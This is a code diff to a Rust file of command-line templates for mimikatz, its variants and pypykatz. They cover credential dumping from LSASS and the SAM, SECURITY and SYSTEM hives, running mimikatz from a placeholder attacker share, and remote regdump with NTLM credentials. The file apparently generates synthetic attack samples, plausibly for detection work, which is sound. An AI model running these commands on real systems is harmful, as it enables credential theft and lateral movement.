@@ -13,7 +13,7 @@ const EXE: &[&str] = &[
     r"echo {l} | {m}",
     r"{m} '{l}' exit",
     r"(echo privilege::debug & echo {l} & echo exit) | {m}",
-    r"echo {l} > {stem}.txt & {m} < {stem}.txt",
+    r"echo {l} > {stem.1}.txt & {m} < {stem.1}.txt",
     r#"{m} """{l}""" """exit""""#,
     r#"{m} privilege::debug token::elevate {l} {l2} exit"#,
     r#"{m} "{before2}" "{l2}" "{l}" exit"#,
@@ -82,7 +82,7 @@ const MIMI: &str = concat!(
     r"x64\mimikatz.exe¦{dir}\mimikatz.exe¦{dir}\{alnum4}.exe¦m.exe¦mimi.exe¦",
     r"C:\tools\mimikatz\x64\mimikatz.exe¦{dir}\mimikatz_trunk\x64\mimikatz.exe¦SharpKatz.exe ",
     r"--Command¦SafetyKatz.exe¦BetterSafetyKatz.exe¦SafetyKatz¦Loader.exe -path {url} -args¦",
-    r"\\{attacker}\{share}\mimikatz.exe¦pypykatz.exe¦mk64.exe¦katz.exe¦mimidrv.exe»",
+    r"\\{attacker}\{share}\mimikatz.exe¦mimi64.exe¦mk64.exe¦katz.exe¦mimidrv.exe»",
 );
 const POS: &[(&str, &str)] = &[
     ("m", MIMI),
@@ -134,6 +134,7 @@ const PYPY: &[&str] = &[
     r"{py} registry --«sam {samcopy}¦security {seccopy} --sam {samcopy}» {syscopy}",
     r"{py} registry {syscopy} --sam {samcopy} --security {seccopy}« --software {stem}»",
     r"{py} live registry« -o {stem}»",
+    r"{py}« -v» live registry« --json»« > {shout}¦ | tee {shout}»",
     r"{py} registry ⟦--sam {samcopy}¦«--security {seccopy}»¦{syscopy}⟧",
     r"{py} live smb regdump {stem}",
     r"{py} smb regdump smb2+ntlm-password://{domain}\\{user}:{password}@{rhost}",
